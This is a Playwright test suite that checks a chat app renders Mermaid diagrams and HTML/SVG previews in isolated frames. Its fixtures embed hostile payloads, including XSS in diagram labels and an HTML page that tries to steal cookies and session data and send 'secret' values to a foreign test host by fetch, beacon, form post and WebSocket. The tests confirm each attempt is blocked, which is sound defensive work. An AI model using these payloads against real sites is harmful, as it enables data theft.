"""Diagrams, HTML and SVG of answers are shown in frames of another origin, from where nothing is reached."""

import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, Page, expect

from tests.browser.accessible import violations_in_both_themes
from tests.browser.foreign_server import ForeignServer
from tests.browser.reader import Reader, wait_for_script
from tests.stack import Stack

pytestmark = pytest.mark.browser

DIAGRAM = """```mermaid
flowchart TD
    accTitle: When the tide is high
    A[Is the moon full?] -->|Yes| B[A spring tide]
    A -->|No| C[An ordinary tide]
```
"""
DRAWN = ".diagram img.of-light"
HTML = """```html
<!doctype html>
<title>Clock</title>
<p id="says">nothing yet</p>
<button onclick="document.getElementById('says').textContent = 'clicked'">Click</button>
<a href="#end">To the end</a>
<p id="end">End</p>
<script>document.getElementById("says").textContent = "it runs";</script>
```
"""


def answer(reader: Reader, stack: Stack, text: str) -> Locator:
    """Have a model answer so, and return the answer."""
    before = reader.answers.count()
    stack.upstream.reset()
    stack.upstream.reply({"text": text})
    reader.send("Show it")
    expect(reader.answers).to_have_count(before + 1)
    shown = reader.answers.nth(before)
    expect(shown).to_have_attribute("aria-busy", "false")
    return shown


def toggle(block: Locator) -> Locator:
    return block.get_by_role("button", name="Preview", exact=True)


def content(page: Page) -> FrameLocator:
    return page.frame_locator(".preview-panel iframe")


@pytest.fixture
def alone(browser: Browser, stack: Stack) -> Iterator[Reader]:
    """alice, in a window whose errors are not counted: browsers report what they refuse."""
    with Reader.at(browser, stack.base_url) as reader:
        reader.log_in_by_cookie("alice")
        yield reader


@pytest.fixture
def foreign() -> Iterator[ForeignServer]:
    with ForeignServer() as server:
        yield server


class TestDiagrams:
    def test_a_diagram_takes_the_place_of_its_code_and_gives_it_back(
        self, reader: Reader, stack: Stack
    ) -> None:
        shown = answer(reader, stack, f"Look:\n\n{DIAGRAM}")
        picture = shown.locator(DRAWN)
        expect(picture).to_be_visible()
        expect(picture).to_have_attribute("alt", "When the tide is high")
        assert picture.evaluate("e => e.decode().then(() => e.naturalWidth)") > 100
        expect(shown.locator("pre")).to_be_hidden()
        expect(toggle(shown)).to_have_attribute("aria-pressed", "true")
        assert violations_in_both_themes(reader.page) == []
        toggle(shown).click()
        expect(shown.locator("pre")).to_be_visible()
        expect(picture).to_be_hidden()
        toggle(shown).click()
        expect(picture).to_be_visible()

    def test_it_is_drawn_for_both_themes(self, reader: Reader, stack: Stack) -> None:
        shown = answer(reader, stack, DIAGRAM)
        light, dark = shown.locator(DRAWN), shown.locator(".diagram img.of-dark")
        expect(light).to_be_visible()
        expect(dark).to_be_hidden()
        reader.page.emulate_media(color_scheme="dark")
        expect(dark).to_be_visible()
        expect(light).to_be_hidden()
        assert light.get_attribute("src") != dark.get_attribute("src")
        # Paper is light.
        reader.page.emulate_media(color_scheme="dark", media="print")
        expect(light).to_be_visible()
        expect(dark).to_be_hidden()
        reader.page.emulate_media(color_scheme="light", media="null")
        reader.page.evaluate("document.documentElement.dataset.theme = 'dark'")
        expect(dark).to_be_visible()

    def test_while_it_is_written_its_code_is_shown(self, reader: Reader, stack: Stack) -> None:
        cut = DIAGRAM.index("-->")
        stack.upstream.reply(
            {"text": DIAGRAM[:cut]}, {"wait": "the rest"}, {"text": f"{DIAGRAM[cut:]}\nThat was it."}
        )
        reader.send("Draw")
        body = reader.answers.last.locator(".body")
        expect(body.locator("pre")).to_contain_text("flowchart TD")
        expect(toggle(body)).to_be_hidden()
        stack.upstream.release("the rest")
        expect(body.locator(DRAWN)).to_be_visible()

    def test_an_error_in_its_code_is_said_and_the_code_stays(self, reader: Reader, stack: Stack) -> None:
        shown = answer(reader, stack, "```mermaid\nflowchart TD\n  A[Start -->\n```\n\nDone.")
        expect(shown.locator(".preview-hint")).to_contain_text(
            "cannot be drawn: its code has an error near line"
        )
        expect(shown.locator("pre")).to_be_visible()
        assert violations_in_both_themes(reader.page) == []

    def test_a_hostile_one_runs_and_loads_nothing(
        self, alone: Reader, stack: Stack, foreign: ForeignServer
    ) -> None:
        dialogs: list[str] = []
        alone.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        far = f"http://{foreign.host}"
        lines = [
            '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(FAR/css)", "htmlLabels": true}}%%',
            "flowchart TD",
            'A["<img src=x onerror=alert(1)><script>alert(2)</script>"] --> B["<img src=FAR/label>"]',
            'C@{ img: "FAR/img", label: "C", w: 60, h: 60 }',
            'click A "javascript:alert(3)"',
            'click B "FAR/click" _self',
            "classDef red fill:#f00,background:url(FAR/style)",
            "class A red",
        ]
        source = "\n".join(lines).replace("FAR", far)
        shown = answer(alone, stack, f"```mermaid\n{source}\n```\n\n{DIAGRAM}")
        # The second is drawn after the first.
        expect(shown.locator(DRAWN).last).to_have_attribute("alt", "When the tide is high")
        assert (dialogs, foreign.paths) == ([], [])
        assert alone.page.locator("[onerror], script[src*='far'], a[href^='javascript']").count() == 0

    def test_what_is_too_long_stays_code(self, reader: Reader, stack: Stack) -> None:
        lines = "\n".join(f"  A{number} --> B{number}" for number in range(3_500))
        shown = answer(reader, stack, f"```mermaid\nflowchart TD\n{lines}\n```\n\nDone.")
        button = shown.get_by_role("button", name="Too long for a preview")
        expect(button).to_be_disabled()
        expect(shown.locator("pre")).to_be_visible()

    def test_the_frame_goes_when_there_is_nothing_to_draw_and_no_page_asks_twice(
        self, reader: Reader, stack: Stack
    ) -> None:
        loads: list[str] = []
        reader.page.on("request", lambda request: loads.append(request.url))
        shown = answer(reader, stack, f'{DIAGRAM}\n\n```mermaid\npie\n  "a": 1\n  "b": 2\n```\n')
        expect(shown.locator(DRAWN)).to_have_count(2)
        assert len([url for url in loads if url.endswith("/preview/diagram/")]) == 1
        assert len([url for url in loads if "/preview/mermaid." in url]) <= 1


class TestHtml:
    def test_it_runs_in_a_panel_that_is_reloaded_and_closed(self, reader: Reader, stack: Stack) -> None:
        page = reader.page
        shown = answer(reader, stack, HTML)
        button = toggle(shown)
        expect(shown.locator("iframe")).to_have_count(0)
        button.click()
        expect(button).to_have_attribute("aria-expanded", "true")
        says = content(page).locator("#says")
        expect(says).to_have_text("it runs")
        content(page).get_by_role("button", name="Click").click()
        expect(says).to_have_text("clicked")
        # A link to a place in it does not leave it.
        content(page).get_by_role("link", name="To the end").click()
        expect(says).to_have_text("clicked")
        assert violations_in_both_themes(page) == []
        panel = shown.get_by_role("region", name="Preview")
        panel.get_by_role("button", name="Reload").click()
        expect(says).to_have_text("it runs")
        panel.get_by_role("button", name="Full screen").click()
        expect(panel.locator(".preview-place:fullscreen")).to_be_visible()
        page.evaluate("document.exitFullscreen()")
        panel.get_by_role("button", name="Close").click()
        expect(panel).to_have_count(0)
        expect(button).to_have_attribute("aria-expanded", "false")
        expect(button).to_be_focused()

    def test_svg_is_drawn_and_its_scripts_run_as_little(self, reader: Reader, stack: Stack) -> None:
        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80"><circle r="40" cx="40" cy="40"/></svg>'
        for language in ("svg", "xml"):
            shown = answer(reader, stack, f"```{language}\n{svg}\n```\n")
            toggle(shown).click()
            expect(content(reader.page).locator("circle")).to_be_visible()
            toggle(shown).click()
            expect(shown.locator("iframe")).to_have_count(0)
        shown = answer(reader, stack, "```xml\n<note/>\n```\n")
        expect(toggle(shown)).to_be_hidden()

    def test_on_paper_is_the_code(self, reader: Reader, stack: Stack) -> None:
        shown = answer(reader, stack, HTML)
        toggle(shown).click()
        expect(content(reader.page).locator("#says")).to_have_text("it runs")
        reader.page.emulate_media(media="print")
        expect(shown.locator(".preview-panel")).to_be_hidden()
        expect(shown.locator("pre")).to_be_visible()
        reader.page.emulate_media(media="null")

    def test_one_that_floods_the_page_with_messages_is_closed(self, alone: Reader, stack: Stack) -> None:
        flood = 'setInterval(() => { for (let i = 0; i < 2000; i += 1) parent.postMessage("x".repeat(1000), "*"); })'
        shown = answer(alone, stack, f"```html\n<p>soon</p><script>{flood}</script>\n```\n")
        toggle(shown).click()
        expect(shown.get_by_text("The preview sent too many messages, so it was closed.")).to_be_visible()
        expect(shown.locator("iframe")).to_have_count(0)
        alone.field.fill("The page goes on")
        expect(alone.field).to_have_value("The page goes on")

    def test_one_that_hangs_is_closed_and_the_page_goes_on_meanwhile(
        self, alone: Reader, stack: Stack
    ) -> None:
        shown = answer(alone, stack, "```html\n<p>soon</p><script>for (;;);</script>\n```\n")
        toggle(shown).click()
        expect(shown.locator("iframe")).to_be_visible()
        # The page responds at once, since the frame has a process of its own.
        alone.field.fill("The page goes on")
        expect(alone.field).to_have_value("The page goes on")
        hint = shown.get_by_text("The preview does not respond any more, so it was closed.")
        expect(hint).to_be_visible(timeout=90_000)
        expect(shown.locator("iframe")).to_have_count(0)

    @pytest.mark.parametrize("way", ["location = `http://{host}/left?data`", "location = '/admin/?data'"])
    def test_one_that_leaves_is_closed_and_nobody_hears_of_it(
        self, alone: Reader, stack: Stack, foreign: ForeignServer, way: str
    ) -> None:
        script = way.replace("{host}", foreign.host)
        seen: list[str] = []
        alone.page.on("response", lambda response: seen.append(response.url))
        shown = answer(alone, stack, f"```html\n<script>{script}</script>\n```\n")
        toggle(shown).click()
        expect(shown.get_by_text("so it was closed")).to_be_visible(timeout=90_000)
        assert foreign.paths == []
        assert not [url for url in seen if "data" in url]

    def test_one_that_loads_itself_anew_is_shown_anew(self, alone: Reader, stack: Stack) -> None:
        shown = answer(
            alone, stack, "```html\n<button onclick='location.reload()'>Again</button><p>first</p>\n```\n"
        )
        toggle(shown).click()
        again = content(alone.page).get_by_role("button", name="Again")
        again.click()
        expect(content(alone.page).get_by_text("first")).to_be_visible()


HOSTILE = """
<meta http-equiv=refresh content="3600;url=http://{host}/refresh">
<link rel=stylesheet href="http://{host}/link.css"><link rel=preconnect href="http://{host}">
<link rel=prefetch href="http://{host}/prefetch"><link rel=preload as=image href="http://{host}/preload">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://{host}/rules"],"eagerness":"immediate"}]}</script>
<style>@import "http://{host}/import.css"; body { background: url(http://{host}/background) }</style>
<img src="http://{host}/img"><iframe src="http://{host}/frame"></iframe><object data="http://{host}/object"></object>
<iframe srcdoc="<script>location = 'http://{host}/inner'</script>"></iframe>
<video src="http://{host}/video"></video><script src="http://{host}/script"></script>
<form id=form action="http://{host}/form" method=post><input name=data value=secret></form>
<form id=ours action="{base}/logout/" method=post></form>
<a id=ping ping="http://{host}/ping" href="#x">x</a><a id=save download href="data:text/plain,x">x</a>
<p id=done></p><ul id=results></ul>
<script>
const results = {};
const attempt = async (name, what) => {
  try { results[name] = String(await what()); } catch (error) { results[name] = "refused: " + error.name; }
};
(async () => {
  await attempt("origin", () => self.origin);
  await attempt("parent", () => parent.document.title);
  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("indexedDB", () => new Promise((good, bad) => {
    const request = indexedDB.open("x"); request.onsuccess = () => good("open"); request.onerror = () => bad(request.error); }));
  await attempt("api", () => fetch("{base}/api/sessions/", { credentials: "include" }));
  await attempt("far", () => fetch("http://{host}/fetch?secret", { mode: "no-cors" }));
  await attempt("socket", () => new Promise((good, bad) => {
    const socket = new WebSocket("ws://{host}/socket"); socket.onopen = () => good("open"); socket.onerror = () => bad(new Error("x")); }));
  await attempt("beacon", () => navigator.sendBeacon("http://{host}/beacon", "secret") && "sent");
  await attempt("worker", () => new Promise((good, bad) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = () => good("runs"); worker.onerror = () => bad(new Error("x")); }));
  await attempt("open", () => window.open("http://{host}/open"));
  await attempt("top", () => { top.location = "http://{host}/top"; return "asked"; });
  await attempt("alert", () => { alert("x"); return confirm("x"); });
  await attempt("messages", () => { for (const each of [parent, top]) each.postMessage({ kind: "ready" }, "*"); return "sent"; });
  await attempt("rtc", async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:{udp}" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    return "asked";
  });
  form.submit(); ours.submit(); ping.click(); save.click();
  new Image().src = "http://{host}/image?secret";
  // What was asked for without waiting has failed by then as well.
  setTimeout(() => { document.getElementById("done").textContent = JSON.stringify(results); }, 1500);
})();
</script>
"""


@pytest.fixture
def datagrams() -> Iterator[tuple[int, list[bytes]]]:
    """The port of a server for WebRTC, and what it has received."""
    received: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(60)

        def listen() -> None:
            try:
                while True:
                    received.append(server.recv(2_000))
            except OSError:
                return

        threading.Thread(target=listen, daemon=True).start()
        yield server.getsockname()[1], received


class TestHostileHtml:
    @pytest.mark.core
    def test_it_reaches_neither_the_page_nor_the_server_nor_anybody_else(
        self, alone: Reader, stack: Stack, foreign: ForeignServer, datagrams: tuple[int, list[bytes]]
    ) -> None:
        port, received = datagrams
        dialogs: list[str] = []
        downloads: list[object] = []
        asked: list[str] = []
        alone.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        alone.page.on("download", lambda download: downloads.append(download))  # noqa: PLW0108  marks what it is given
        alone.page.on(
            "response",
            lambda response: asked.append(response.url) if response.frame != alone.page.main_frame else None,
        )
        html = (
            HOSTILE.replace("{host}", foreign.host)
            .replace("{base}", stack.base_url)
            .replace("{udp}", str(port))
        )
        shown = answer(alone, stack, f"```html\n{html}\n```\n")
        before = alone.page.url
        asked.clear()
        toggle(shown).click()
        done = content(alone.page).locator("#done")
        expect(done).not_to_be_empty()
        results = done.evaluate("e => JSON.parse(e.textContent)")
        assert results["origin"] == "null"
        for refused in (
            "parent",
            "cookie",
            "localStorage",
            "indexedDB",
            "api",
            "far",
            "socket",
            "worker",
            "top",
        ):
            assert results[refused].startswith("refused"), (refused, results)
        assert results["open"] == "null"
        assert results["alert"] in ("false", "undefined")
        assert (dialogs, downloads, foreign.paths, received) == ([], [], [], [])
        # The only thing that was loaded is the document of the frame.
        assert [url.removeprefix(stack.base_url) for url in asked if url.startswith("http")] == [
            "/preview/html/"
        ]
        assert (alone.page.url, len(alone.context.pages)) == (before, 1)
        expect(shown.get_by_text("A preview cannot reach the network")).to_be_visible()
        # Still logged in, and the page is what it was.
        assert alone.page.request.get(f"{stack.base_url}/api/sessions/").status == 200
        alone.send("Are you there?")
        expect(alone.answers).to_have_count(2)

    def test_a_frame_inside_of_it_cannot_pass_for_it(self, alone: Reader, stack: Stack) -> None:
        """It asks the page for the content, which only the document of the frame gets."""
        inner = "const c = new MessageChannel(); c.port1.onmessage = ({data}) => document.title = 'got ' + data.kind; top.postMessage({kind: 'ready'}, '*', [c.port2]);"
        html = f'<p>outer</p><iframe srcdoc="<script>{inner}</script>"></iframe>'
        shown = answer(alone, stack, f"```html\n{html}\n```\n")
        toggle(shown).click()
        expect(content(alone.page).get_by_text("outer")).to_be_visible()
        inside = content(alone.page).frame_locator("iframe")
        expect(inside.locator("body")).to_be_attached()
        assert "got" not in str(inside.locator("body").evaluate("() => document.title"))


class TestTheDocuments:
    @pytest.mark.parametrize("name", ["html", "diagram"])
    def test_opened_directly_they_have_an_opaque_origin_and_do_nothing(
        self, alone: Reader, stack: Stack, name: str
    ) -> None:
        response = alone.page.goto(f"{stack.base_url}/preview/{name}/")
        assert response
        assert "set-cookie" not in response.headers
        assert alone.page.evaluate("self.origin") == "null"
        assert (
            alone.page.evaluate("(() => { try { return document.cookie } catch (e) { return e.name } })()")
            == "SecurityError"
        )
        alone.page.evaluate("postMessage({ kind: 'show', html: 'x' }, '*')")
        expect(alone.page.locator("body")).to_have_text("")

    def test_other_sites_cannot_embed_them(self, alone: Reader, stack: Stack, foreign: ForeignServer) -> None:
        alone.page.goto(f"http://{foreign.host}/")
        alone.page.set_content(f'<iframe src="{stack.base_url}/preview/html/"></iframe>')
        wait_for_script(alone.page, "() => document.querySelector('iframe') !== null")
        alone.page.wait_for_load_state("networkidle")
        assert [frame.url for frame in alone.page.frames[1:]] == ["chrome-error://chromewebdata/"]


def test_shared_pages_show_the_same(browser: Browser, reader: Reader, stack: Stack) -> None:
    answer(reader, stack, f"{DIAGRAM}\n\n{HTML}")
    reader.choose_action("Share")
    dialog = reader.page.get_by_role("dialog", name="Share this chat")
    dialog.get_by_role("button", name="Create a link").click()
    link = dialog.get_by_label("Link", exact=True).input_value()
    with Reader.at(browser, stack.base_url) as stranger:
        stranger.page.goto(link)
        expect(stranger.page.locator(DRAWN)).to_be_visible()
        block = stranger.page.locator(".code", has=stranger.page.get_by_text("it runs"))
        toggle(block).click()
        expect(content(stranger.page).locator("#says")).to_have_text("it runs")
        assert violations_in_both_themes(stranger.page) == []
        assert (stranger.errors, stranger.foreign_requests) == ([], [])


@pytest.mark.parametrize("language", ["en", "de"])
def test_on_a_narrow_phone_nothing_sticks_out(browser: Browser, stack: Stack, language: str) -> None:
    with Reader.at(
        browser, stack.base_url, viewport={"width": 360, "height": 780}, reduced_motion="reduce"
    ) as phone:
        phone.log_in_by_cookie("alice")
        shown = answer(phone, stack, f"{DIAGRAM}\n\n{HTML}")
        expect(shown.locator(DRAWN)).to_be_visible()
        toggle(shown.locator(".code").nth(1)).click()
        expect(content(phone.page).locator("#says")).to_have_text("it runs")
        assert phone.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert phone.page.locator("#scroller").evaluate("e => e.scrollWidth <= e.clientWidth")
        for button in shown.locator(".code-head button:visible, .preview-bar button:visible").all():
            box = button.bounding_box()
            assert box
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= 360
